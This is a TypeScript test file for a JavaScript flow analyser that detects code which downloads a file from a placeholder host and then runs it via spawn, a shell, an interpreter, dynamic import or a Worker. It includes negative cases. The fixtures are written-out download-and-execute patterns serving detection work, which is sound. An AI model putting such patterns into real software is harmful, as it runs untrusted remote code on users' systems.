import { describe, expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

const HEAD = `const fs = require('fs'); const { spawn } = require('child_process');
  const store = async (file) => fs.writeFileSync(file, await (await fetch('https://a.weir.test/x')).text());`;

function startsDownload(code: string): boolean {
  return analyzeJs(`${HEAD} ${code}`).flow.flows.some(
    ({ sink, labels }) => sink === 'command' && (labels & LABEL.dropped) !== 0,
  );
}

describe('what was downloaded is started', () => {
  test.each([
    ['by its path', `const file = '/opt/x'; store(file).then(() => spawn(file, ['-q']));`],
    [
      'by one of several lists',
      `const file = '/opt/x'; store(file).then(() => { const how = ok ? [file, []] : [process.execPath, [file]]; spawn(...how, { detached: true }); });`,
    ],
    [
      'by an interpreter',
      `const file = '/opt/x.js'; store(file).then(() => spawn(process.execPath, [file]));`,
    ],
    ['by a shell', `const file = '/opt/x.sh'; store(file).then(() => spawn('/bin/sh', [file]));`],
  ])('%s', (_what, code) => {
    expect(startsDownload(code)).toBe(true);
  });

  test('and not where another program looks at it', () => {
    expect(startsDownload(`const file = '/opt/x'; store(file).then(() => spawn('tar', [file, '-x']));`)).toBe(
      false,
    );
  });

  const LOAD = `import { join } from 'node:path';\nimport { pathToFileURL } from 'node:url';\nimport { copyFileSync } from 'node:fs';\nimport { rename, writeFile } from 'node:fs/promises';\nimport { Worker } from 'node:worker_threads';
  const store = async (file) => writeFile(file, await (await fetch('https://a.weir.test/x')).text());\n`;

  function loadsDownload(code: string): boolean {
    return analyzeJs(LOAD + code).flow.flows.some(
      ({ sink, labels }) => sink !== 'file-write' && (labels & LABEL.dropped) !== 0,
    );
  }

  test.each([
    ['by its path', `const file = join(dir, name); await store(file); await import(file);`],
    [
      'by its address',
      `const file = join(dir, name); await store(file); await import(pathToFileURL(file).href);`,
    ],
    ['by a text', 'const file = join(dir, name); await store(file); await import(`file://${file}`);'],
    [
      'by what a function gives',
      `async function put() { const file = join(dir, name); await store(file); return pathToFileURL(file).toString(); }
       export const use = async () => (await import(await put())).default;`,
    ],
    [
      'by a method',
      `class Packs { async put(name) { const file = join(dir, name); await store(file); return String(new URL('file://' + file)); }
       get(name) { return this.put(name); } }
       const packs = new Packs(); const found = await packs.get('a'); await import(found);`,
    ],
    [
      'by the name that it is given when it is whole',
      'const file = join(dir, name); await store(`${file}.part`); await rename(`${file}.part`, file); await import(file);',
    ],
    [
      'as a copy',
      'const file = join(dir, name); const to = join(dir, "own"); await store(file); copyFileSync(file, to); await import(to);',
    ],
    ['in a worker', `const file = join(dir, name); await store(file); new Worker(file);`],
  ])('what was downloaded is imported %s', (_what, code) => {
    expect(loadsDownload(code)).toBe(true);
  });

  test('a file that is not what was moved is none', () => {
    expect(
      loadsDownload(
        'const file = join(dir, name); const to = join(dir, "own"); await store(file); copyFileSync(join(dir, "a"), to); await import(to);',
      ),
    ).toBe(false);
  });

  test('another file that is imported is none', () => {
    expect(
      loadsDownload(`const file = join(dir, name); await store(file); await import(join(dir, 'own.js'));`),
    ).toBe(false);
  });
});
